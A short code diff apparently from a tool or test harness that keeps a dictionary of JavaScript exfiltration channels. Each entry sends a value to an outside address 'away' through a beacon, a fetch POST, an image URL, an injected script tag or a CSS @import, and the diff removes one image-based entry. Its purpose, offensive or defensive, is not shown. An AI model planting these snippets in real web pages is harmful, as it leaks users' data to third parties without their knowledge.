@@ -37,7 +37,6 @@ CHANNELS = {
     "a beacon": "navigator.sendBeacon(away,v)",
     "json": "fetch(away,{method:'POST',body:JSON.stringify({a:[v]})}).catch(()=>1)",
     "a request that outlives its page": "fetch(away,{method:'POST',body:v,keepalive:true}).catch(()=>1)",
-    "a picture": "new Image().src=away+'?'+btoa(v)",
     "a picture, shifted": "new Image().src=away+'?'+encodeURIComponent(btoa('xy'+v+'z'))",
     "a script": "o.appendChild(document.createElement('script')).src=away+'/'+encodeURIComponent(v)",
     "a style": "o.innerHTML='<style>@import \"'+away+'?'+encodeURIComponent(v)+'\";</style>'",
